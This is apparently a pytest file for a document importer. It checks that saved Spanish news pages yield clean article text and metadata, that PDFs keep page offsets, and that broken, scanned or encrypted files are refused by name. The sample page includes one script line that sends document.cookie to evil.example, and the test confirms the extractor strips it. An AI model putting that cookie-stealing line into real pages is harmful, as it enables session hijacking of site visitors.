"""Articles as analysts get them: saved web pages (the article without the page around it) and
PDF files (their text, page by page), imported like every other file: all or nothing per file,
a named reason when there is nothing to import, the rest of the batch going on."""

import io

from pypdf import PdfReader, PdfWriter

from annotator.formats import by_extension, dialog_filter
from annotator.importing import import_paths
from tests.pdfmaker import make_pdf

PAGE = """<!DOCTYPE html><html lang="es"><head><meta charset="utf-8">
<title>Pionyang defiende el pacto | Diario del Este</title>
<meta property="og:title" content="Pionyang defiende el pacto militar con Moscú">
<meta name="author" content="Ana Ruiz">
<meta property="article:published_time" content="2026-03-14T10:00:00Z">
<link rel="canonical" href="https://diario.example/mundo/pionyang-pacto">
<script src="https://ads.example/tag.js"></script>
<script>document.location = "https://evil.example/?c=" + document.cookie;</script>
<style>body { font-family: serif }</style></head>
<body><header><a href="/">Diario del Este</a> <nav><a href="/mundo">Mundo</a> <a href="/economia">Economía</a>
<a href="/suscribete">Suscríbete</a></nav></header>
<main><article><h1>Pionyang defiende el pacto militar con Moscú</h1>
<p class="byline">Ana Ruiz · 14 de marzo de 2026</p>
<p>Seúl, 14 de marzo. El líder norcoreano Kim Jong-un afirmó el jueves que el nuevo tratado de defensa
mutua con Rusia es «un escudo para la paz en la península», según recogió la agencia estatal norcoreana KCNA.</p>
<p>Durante una visita a una fábrica de municiones en la provincia de Hamgyong del Sur, Kim Jong-un aseguró
que el acuerdo justifica el envío de tropas si cualquiera de los dos países sufre una agresión.
«Nadie podrá separar a nuestros pueblos», dijo el dirigente ante los trabajadores.</p>
<iframe src="https://video.example/embed/1"></iframe><img src="https://tracker.example/p.gif" alt="">
</article><aside><h2>Lo más leído</h2><ul><li><a href="/a">Otro titular</a></li></ul></aside></main>
<footer>© Diario del Este 2026 · Aviso legal · Política de cookies</footer></body></html>"""

BODY = "El líder norcoreano Kim Jong-un afirmó el jueves"


def test_a_saved_news_page_gives_its_article_and_fields(store, tmp_path):
    page = tmp_path / "pionyang-pacto.html"
    page.write_text(PAGE, encoding="utf-8")
    report = import_paths(store, [page])
    assert report.files[0].format == "html" and report.total("documents_new") == 1
    document = store.document(store.document_ids()[0])
    assert document.text.startswith("Pionyang defiende el pacto militar con Moscú\n\nSeúl, 14 de marzo.")
    assert BODY in document.text and "«Nadie podrá separar a nuestros pueblos»" in document.text
    for boilerplate in ("Suscríbete", "Lo más leído", "cookies", "evil.example", "font-family", "Economía"):
        assert boilerplate not in document.text
    assert document.title == "Pionyang defiende el pacto militar con Moscú"
    assert (document.url, document.published) == ("https://diario.example/mundo/pionyang-pacto", "2026-03-14")
    assert document.meta["author"] == "Ana Ruiz" and document.meta["extractor"].startswith("trafilatura")


def test_pdf_pages_become_one_text_with_page_offsets(store, tmp_path):
    pdf = tmp_path / "informe.pdf"
    pdf.write_bytes(
        make_pdf(
            ["Pionyang defiende el pacto\nKim Jong-un afirmó que el tratado es «un escudo».", "Según la agencia KCNA."],
            title="Informe sobre el pacto",
        )
    )
    report = import_paths(store, [pdf])
    assert report.files[0].format == "pdf" and report.total("documents_new") == 1
    document = store.document(store.document_ids()[0])
    assert document.title == "Informe sobre el pacto"
    first, second = document.meta["pages"]
    assert first == 0 and document.text[second:].startswith("Según la agencia KCNA.")
    assert "«un escudo»" in document.text[:second]


def test_unreadable_files_are_refused_by_name_and_the_batch_goes_on(store, tmp_path):
    folder = tmp_path / "batch"
    folder.mkdir()
    (folder / "portada.html").write_text(
        '<html><body><nav><a href="/">Inicio</a> <a href="/mundo">Mundo</a></nav></body></html>', encoding="utf-8"
    )
    (folder / "escaneado.pdf").write_bytes(make_pdf(["", ""]))
    protected = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf(["Texto secreto de la embajada."]))))
    protected.encrypt(user_password="clave", owner_password="clave")
    with open(folder / "cifrado.pdf", "wb") as f:
        protected.write(f)
    (folder / "roto.pdf").write_bytes(b"%PDF-1.4\nnot really")
    (folder / "bueno.html").write_text(PAGE, encoding="utf-8")
    report = import_paths(store, [folder])
    reasons = {r.path.split("/")[-1]: r.rejections[0].message for r in report.rejected_files}
    assert "no article found in this page" in reasons["portada.html"]
    assert "no text in this PDF (2 page(s)): a scanned document? run OCR" in reasons["escaneado.pdf"]
    assert "encrypted PDF: it needs a password" in reasons["cifrado.pdf"]
    assert "not a readable PDF" in reasons["roto.pdf"]
    assert report.total("documents_new") == 1 and len(store.document_ids()) == 1  # the good page


def test_the_formats_are_known_by_their_extensions():
    from pathlib import Path

    assert [by_extension(Path(name)) for name in ("a.html", "b.HTM", "c.pdf")] == ["html", "html", "pdf"]
    assert "*.html" in dialog_filter() and "*.pdf" in dialog_filter()
